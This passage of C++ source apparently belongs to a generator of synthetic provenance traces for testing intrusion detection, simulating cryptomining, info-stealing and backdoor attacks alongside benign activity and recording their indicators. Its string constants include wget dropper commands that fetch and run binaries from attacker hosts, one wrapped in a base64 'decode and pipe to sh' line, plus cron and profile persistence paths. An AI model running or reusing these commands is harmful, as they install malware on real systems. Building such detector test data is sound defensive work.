  const std::size_t runs = b.test() ? kSparseTestRuns + rng.between(0, 200) : kSparseTrainRuns + rng.between(0, 10);
  b.emit(b.at(0.01), b.daemon(n.sparse_parent), ActionKind::exec, host, "sparse.start");
  std::int64_t t = b.at(0.02 + 0.5 * rng.unit());
  for (std::size_t i = 0; i < runs; ++i) {
    t += static_cast<std::int64_t>(rng.between(50, 400)) * kMsNs;
    b.emit(t, host, ActionKind::run_script, script_attrs("hwinfo probe " + std::to_string(i) + " device-class " + rng.hex(4)),
           "sparse.run_script");
  }
  b.out().sparse_scripts = runs;
}

inline void unknown_session(DayBuilder& b, std::size_t helpers) {
  auto& rng = b.rng();
  const bool win = b.spec().host_profile == HostProfile::ever_changing;
  const std::string session = rng.hex(6);
  std::vector<std::string> cdn;
  for (int k = 0; k < 3; ++k)
    cdn.push_back("media" + std::to_string(k) + "-" + session + ".meetcdn.example@203.0." + std::to_string(110 + k) +
                  "." + std::to_string(rng.between(2, 250)) + ":443");
  std::vector<std::string> images;
  for (std::size_t i = 0; i < kImagePool; ++i)
    images.push_back(win ? "C:\\Users\\user\\Pictures\\Meetings\\" + session + "\\slide_" + std::to_string(i) + ".png"
                         : "/srv/exports/" + session + "/chunk_" + std::to_string(i) + ".jpg");
  const auto config = file_attrs(win ? "C:\\Users\\user\\AppData\\Local\\MeetApp\\" + session + "\\session.json"
                                     : "/srv/exports/" + session + "/job.json");
  // every helper of a session runs the same job
  const std::size_t job = rng.between(8, 14);
  const auto parent = b.daemon(b.names().unknown_parent);
  const double start = 0.05 + 0.6 * rng.unit();
  for (std::size_t h = 0; h < helpers; ++h) {
    const std::string path =
        win ? "C:\\Users\\user\\AppData\\Local\\MeetApp\\" + session + "\\media-helper-" + std::to_string(h) + ".exe"
            : "/srv/exports/" + session + "/bin/fetch-" + std::to_string(h);
    const auto proc = process_attrs(b.new_pid(), path, path + " --session " + session + " --slot " + std::to_string(h));
    std::int64_t t = b.at(start + 0.3 * rng.unit());
    b.emit(t, parent, ActionKind::exec, proc, "unknown.exec");
    b.emit(t += b.gap(), proc, ActionKind::read, config, "unknown.read");
    std::vector<EntityAttrs> conns;
    for (const auto& ep : cdn) {
      conns.push_back(b.endpoint(ep, b.ephemeral_port()));
      b.emit(t += b.gap(), proc, ActionKind::connect, conns.back(), "unknown.connect");
    }
    for (std::size_t i = 0; i < job; ++i) {
      b.emit(t += b.gap(), proc, ActionKind::recv, conns[i % conns.size()], "unknown.recv");
      b.emit(t += b.gap(), proc, ActionKind::write, file_attrs(images[i]), "unknown.write");
    }
  }
}

// Test days only. The ever-changing host joins several meetings a day.
inline void unknown_template(DayBuilder& b) {
  if (!b.test()) return;
  const auto& spec = b.spec();
  const std::size_t sessions = spec.host_profile == HostProfile::ever_changing ? 3 : 1;
  const std::size_t test_index = b.day() - spec.train_days;
  double count = std::max(30.0, static_cast<double>(spec.scale) / 120.0);
  if (spec.novelty_ramp) count *= 1.0 + 0.5 * static_cast<double>(test_index);
  const auto helpers = static_cast<std::size_t>(count);
  b.out().unknown_processes = helpers * sessions;
  for (std::size_t i = 0; i < sessions; ++i) unknown_session(b, helpers);
}

// -- attack templates ---------------------------------------------------------

struct MiningIocs {
  static constexpr std::string_view malware = "/tmp/.pg/postmaster";
  static constexpr std::string_view config = "/tmp/.pg/config.json";
  static constexpr std::string_view profile = "/var/lib/postgresql/.bash_profile";
  static constexpr std::string_view crontab = "/var/spool/cron/crontabs/postgres";
  static constexpr std::string_view replica = "/var/tmp/.postmaster";
  static constexpr std::string_view tor_ip = "185.220.101.47";
  static constexpr std::string_view pool_domain = "pool.minexmr-relay.example";
  static constexpr std::string_view pool_ip = "45.9.148.21";
  static constexpr std::string_view dropper_plain =
      "wget -q -O /tmp/.pg/postmaster http://185.220.101.47:9001/x86_64 && chmod +x /tmp/.pg/postmaster";
  static constexpr std::string_view miner_plain = "--config /tmp/.pg/config.json --donate-level 0 --background";
};

inline std::string mining_dropper_cmdline() {
  return "sh -c echo " + base64::encode(MiningIocs::dropper_plain) + " | base64 -d | sh";
}
inline std::string mining_miner_cmdline() { return "postmaster -e " + base64::encode(MiningIocs::miner_plain); }

// Attack processes that mimic a benign archetype copy its action mix and
// objects, which makes them structurally close to benign nodes.
inline std::int64_t mimic(DayBuilder& b, const EntityAttrs& subject, std::string_view archetype, std::int64_t t,
                          const std::string& tag, bool strip) {
  const auto& a = b.catalog().at(archetype);
  Instance inst{&a, subject, {}};
  const std::size_t n = b.rng().between(a.events.first, a.events.second);
  std::vector<std::pair<ActionKind, double>> mix;
  for (const auto& m : a.actions)
    if (m.first != ActionKind::exec && m.first != ActionKind::fork) mix.push_back(m);
  for (std::size_t i = 0; i < n; ++i) {
    t += b.gap();
    auto& out = b.out().events;
    const auto before = out.size();
    act(b, inst, mix[b.rng().weighted(mix)].first, t, tag, 0);
    if (!strip) continue;
    for (auto j = before; j < out.size(); ++j) {
      if (out[j].label != Label::malicious) continue;
      out[j].label = Label::benign;
      ++b.out().stripped;
    }
  }
  return t;
}

inline void mining_template(DayBuilder& b) {
  using M = MiningIocs;
  auto& rng = b.rng();
  const double d = b.spec().attack_divergence;
  const auto postgres = b.daemon("postgres");
  const auto cron = b.daemon("cron");
  const auto& src = b.names().src_ip;

  // intrusion: weak password on the database, shell with an encoded command
  std::int64_t t = b.at(0.2 + 0.05 * rng.unit());
  const auto sh = process_attrs(b.new_pid(), "/bin/sh", mining_dropper_cmdline());
  b.emit(t, postgres, ActionKind::exec, sh, "mining.intrusion");
  if (rng.chance(d)) {
    b.emit(t += b.gap(), sh, ActionKind::read, file_attrs("/etc/passwd"), "mining.intrusion");
    b.emit(t += b.gap(), sh, ActionKind::read, file_attrs("/proc/cpuinfo"), "mining.intrusion");
  } else {
    t = mimic(b, sh, "cat", t, "mining.intrusion", false);
  }

  // download through a Tor relay
  const auto tor = network_attrs("", "", src, b.ephemeral_port(), M::tor_ip, 9001);
  b.emit(t += b.gap(), sh, ActionKind::connect, tor, "mining.download");
  for (std::size_t i = rng.between(2, 4); i > 0; --i) {
    b.emit(t += b.gap(), sh, ActionKind::send, tor, "mining.download");
    b.emit(t += b.gap(), sh, ActionKind::recv, tor, "mining.download");
  }
  b.emit(t += b.gap(), sh, ActionKind::write, file_attrs(M::malware), "mining.download");
  b.emit(t += b.gap(), sh, ActionKind::write, file_attrs(M::config), "mining.download");

  // disguise: PATH now resolves postmaster to the dropped binary
  b.emit(t += b.gap(), sh, ActionKind::write, file_attrs(M::profile), "mining.disguise");
  // persistence
  b.emit(t += b.gap(), sh, ActionKind::write, file_attrs(M::crontab), "mining.persistence");

  // in-memory execution, scheduled by cron; volume stays under 1% of the day
  const auto cron_tab = file_attrs(M::crontab);
  const double cap = std::max(2.0, (0.01 * static_cast<double>(b.spec().scale) - 40.0) / 12.0);
  const auto runs = static_cast<std::size_t>(std::min(36.0, cap));
  std::int64_t when = t + 10 * 60 * 1000 * kMsNs;
  const auto pool = network_attrs(M::pool_domain, "", src, 0, M::pool_ip, 3333);
  for (std::size_t r = 0; r < runs; ++r) {
    when += static_cast<std::int64_t>(rng.between(15, 25)) * 60 * 1000 * kMsNs;
    std::int64_t u = when;
    b.emit(u, cron, ActionKind::read, cron_tab, "mining.execution");
    const auto miner = process_attrs(b.new_pid(), M::malware, mining_miner_cmdline());
    b.emit(u += b.gap(), cron, ActionKind::exec, miner, "mining.execution");
    if (!rng.chance(d)) {
      mimic(b, miner, "sysstat", u, "mining.execution", false);
      continue;
    }
    b.emit(u += b.gap(), miner, ActionKind::read, file_attrs(M::config), "mining.execution");
    b.emit(u += b.gap(), miner, ActionKind::del, file_attrs("/tmp/kdevtmpfsi"), "mining.execution");
    auto conn = pool;
    conn.src_port = b.ephemeral_port();
    b.emit(u += b.gap(), miner, ActionKind::connect, conn, "mining.execution");
    for (std::size_t i = rng.between(2, 4); i > 0; --i) {
      b.emit(u += b.gap(), miner, ActionKind::send, conn, "mining.execution");
      b.emit(u += b.gap(), miner, ActionKind::recv, conn, "mining.execution");
    }
    b.emit(u += b.gap(), miner, ActionKind::write, file_attrs(M::replica), "mining.execution");
  }
}

inline void add_mining_iocs(IocSet& s, std::vector<AttackCmdline>& cl) {
  using M = MiningIocs;
  s.process_paths.insert(std::string(M::malware));
  for (auto f : {M::malware, M::config, M::profile, M::crontab, M::replica}) s.file_paths.insert(std::string(f));
  s.file_paths.insert("/tmp/kdevtmpfsi");
  s.ips.insert(std::string(M::tor_ip));
  s.ips.insert(std::string(M::pool_ip));
  s.domains.insert(std::string(M::pool_domain));
  s.cmdlines.insert(mining_dropper_cmdline());
  s.cmdlines.insert(mining_miner_cmdline());
  cl.push_back({"mining", mining_dropper_cmdline(), base64::encode(M::dropper_plain), std::string(M::dropper_plain)});
  cl.push_back({"mining", mining_miner_cmdline(), base64::encode(M::miner_plain), std::string(M::miner_plain)});
}

struct InfoStealingIocs {
  static constexpr std::string_view binary = "C:\\Windows\\System\\@ms8\\Search.exe";
  static constexpr std::string_view domain = "telemetry.msupdate-cdn.example";
  static constexpr std::string_view ip = "91.243.44.18";
};

inline void info_stealing_template(DayBuilder& b, bool strip) {
  using I = InfoStealingIocs;
  auto& rng = b.rng();
  const double d = b.spec().attack_divergence;
  const auto parent = b.daemon("svchost");
  const auto proc = process_attrs(b.new_pid(), I::binary, std::string(I::binary) + " /s");
  std::int64_t t = b.at(0.25 + 0.3 * rng.unit());
  const std::string tag = strip ? "info_stealing.predeploy" : "";
  const auto step = [&](std::string_view s) { return tag.empty() ? "info_stealing." + std::string(s) : tag; };

  b.emit(t, parent, ActionKind::exec, proc, step("start"), strip);
  if (!rng.chance(d)) {
    t = mimic(b, proc, "conhost", t, step("load"), strip);
  } else {
    for (auto dll : {"C:\\Windows\\System32\\vaultcli.dll", "C:\\Windows\\System32\\crypt32.dll",
                     "C:\\Windows\\System32\\winhttp.dll"})
      b.emit(t += b.gap(), proc, ActionKind::load, file_attrs(dll), step("load"), strip);
    for (std::size_t i = rng.between(2, 4); i > 0; --i)
      b.emit(t += b.gap(), proc, ActionKind::read,
             file_attrs("C:\\Users\\user\\Documents\\finance\\q" + std::to_string(i) + ".xlsx"), step("collect"), strip);
  }
  const auto c2 = network_attrs(I::domain, "", b.names().src_ip, b.ephemeral_port(), I::ip, 443);
  b.emit(t += b.gap(), proc, ActionKind::connect, c2, step("exfiltrate"), strip);
  for (std::size_t i = rng.between(2, 5); i > 0; --i)
    b.emit(t += b.gap(), proc, ActionKind::send, c2, step("exfiltrate"), strip);
  b.emit(t += b.gap(), proc, ActionKind::write, file_attrs(I::binary), step("replicate"), strip);
}

inline void add_info_stealing_iocs(IocSet& s) {
  using I = InfoStealingIocs;
  s.process_paths.insert(std::string(I::binary));
  s.file_paths.insert(std::string(I::binary));
  for (int i = 1; i <= 5; ++i) s.file_paths.insert("C:\\Users\\user\\Documents\\finance\\q" + std::to_string(i) + ".xlsx");
  s.file_paths.insert("C:\\Windows\\System32\\vaultcli.dll");
  s.domains.insert(std::string(I::domain));
  s.ips.insert(std::string(I::ip));
}

struct BackdoorIocs {
  static constexpr std::string_view dropper = "wget -q http://c2.update-srv.example/bd -O /tmp/.X11-unix/.bd";
  static constexpr std::string_view binary = "/tmp/.X11-unix/.bd";
  static constexpr std::string_view unit = "/root/.config/systemd/user/dbus-helper.service";
  static constexpr std::string_view domain = "c2.update-srv.example";
  static constexpr std::string_view ip = "198.18.7.77";
};

inline void backdoor_template(DayBuilder& b) {
  using B = BackdoorIocs;
  auto& rng = b.rng();
  const double d = b.spec().attack_divergence;
  const auto sshd = b.daemon("sshd");
  const auto shell = process_attrs(b.new_pid(), "/bin/bash", "-bash");
  std::int64_t t = b.at(0.3 + 0.3 * rng.unit());
  b.emit(t, sshd, ActionKind::exec, shell, "backdoor.login");
  const auto wget = process_attrs(b.new_pid(), "/usr/bin/wget", B::dropper);
  b.emit(t += b.gap(), shell, ActionKind::exec, wget, "backdoor.download");
  const auto c2 = network_attrs(B::domain, "", b.names().src_ip, b.ephemeral_port(), B::ip, 80);
  b.emit(t += b.gap(), wget, ActionKind::connect, c2, "backdoor.download");
  b.emit(t += b.gap(), wget, ActionKind::recv, c2, "backdoor.download");
  b.emit(t += b.gap(), wget, ActionKind::write, file_attrs(B::binary), "backdoor.download");

  const auto bd = process_attrs(b.new_pid(), B::binary, B::binary);
  b.emit(t += b.gap(), shell, ActionKind::exec, bd, "backdoor.install");
  if (rng.chance(d)) b.emit(t += b.gap(), bd, ActionKind::write, file_attrs(B::unit), "backdoor.install");
  else t = mimic(b, bd, "sysstat", t, "backdoor.install", false);
  for (std::size_t i = rng.between(2, 4); i > 0; --i) {
    auto conn = c2;
    conn.dst_port = 443;
    conn.src_port = b.ephemeral_port();
    t += static_cast<std::int64_t>(rng.between(60, 600)) * 1000 * kMsNs;
    b.emit(t, bd, ActionKind::connect, conn, "backdoor.c2");
    b.emit(t += b.gap(), bd, ActionKind::send, conn, "backdoor.c2");
    b.emit(t += b.gap(), bd, ActionKind::recv, conn, "backdoor.c2");
  }
}

inline void add_backdoor_iocs(IocSet& s) {
  using B = BackdoorIocs;
  s.process_paths.insert(std::string(B::binary));
  s.cmdlines.insert(std::string(B::dropper));
  s.file_paths.insert(std::string(B::binary));
  s.file_paths.insert(std::string(B::unit));
  s.domains.insert(std::string(B::domain));
  s.ips.insert(std::string(B::ip));
}

inline DayTrace generate_day(const ScenarioSpec& spec, const Catalog& cat, const IocSet& iocs, std::size_t day) {
  DayBuilder b(spec, cat, iocs, day);
  benign_background(b);
  if (spec.fp_archetypes.contains(FpArchetype::sparse)) sparse_template(b);
  if (spec.fp_archetypes.contains(FpArchetype::unknown)) unknown_template(b);
  const bool attack_day = day == spec.train_days;
  for (auto a : spec.attacks) {
    switch (a) {
      case AttackKind::mining:
        if (attack_day) mining_template(b);
        break;
      case AttackKind::backdoor:
        if (attack_day) backdoor_template(b);
        break;
      case AttackKind::info_stealing:
        if (attack_day) info_stealing_template(b, false);
        else if (!b.test() && spec.pre_deployment) info_stealing_template(b, true);
        break;
    }
  }
  auto out = std::move(b.out());
  std::stable_sort(out.events.begin(), out.events.end(),
                   [](const Event& x, const Event& y) { return x.timestamp < y.timestamp; });
  for (std::size_t i = 0; i < out.events.size(); ++i) out.events[i].seq = i;
  return out;
}

}  // namespace detail

/// Generates every day of a scenario. A pure function of `spec` and `cat`.
inline Scenario generate(const ScenarioSpec& spec, const Catalog& cat = default_catalog()) {
  spec.validate();
  Scenario s;
  s.spec = spec;
  s.catalog_version = cat.version;
  for (auto a : spec.attacks) {
    switch (a) {
      case AttackKind::mining:
        detail::add_mining_iocs(s.iocs, s.cmdlines);
        break;
      case AttackKind::info_stealing:
        detail::add_info_stealing_iocs(s.iocs);
        break;
      case AttackKind::backdoor:
        detail::add_backdoor_iocs(s.iocs);
        break;
    }
  }
  for (std::size_t d = 0; d < spec.days; ++d) s.days.push_back(detail::generate_day(spec, cat, s.iocs, d));
  return s;
}

/// Writes day_NN.jsonl files plus manifest.json into `dir`.
inline void write_scenario(const Scenario& s, const std::filesystem::path& dir) {
  std::filesystem::create_directories(dir);
  for (const auto& d : s.days) write_trace_file(dir / day_file_name(d.day), d.events);
  std::ofstream m(dir / "manifest.json", std::ios::binary);
  if (!m) throw Error("cannot write " + (dir / "manifest.json").string());
  m << manifest(s).dump(2) << '\n';
}

}  // namespace provkit
